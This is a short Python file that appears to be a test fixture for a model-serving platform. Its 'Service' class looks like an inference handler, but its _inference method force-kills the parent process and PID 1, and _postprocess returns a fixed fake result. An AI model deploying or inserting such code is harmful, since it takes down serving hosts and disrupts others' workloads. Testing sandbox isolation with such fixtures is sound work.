"""Ends its parent and everything else that it can reach."""

import os
import signal

from model_service.python_model_service import XgSklServingBaseService


class Service(XgSklServingBaseService):
    def __init__(self, model_path):
        pass

    def _inference(self, data):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue

    def _postprocess(self, data):
        return [{"predictresult": 1}]
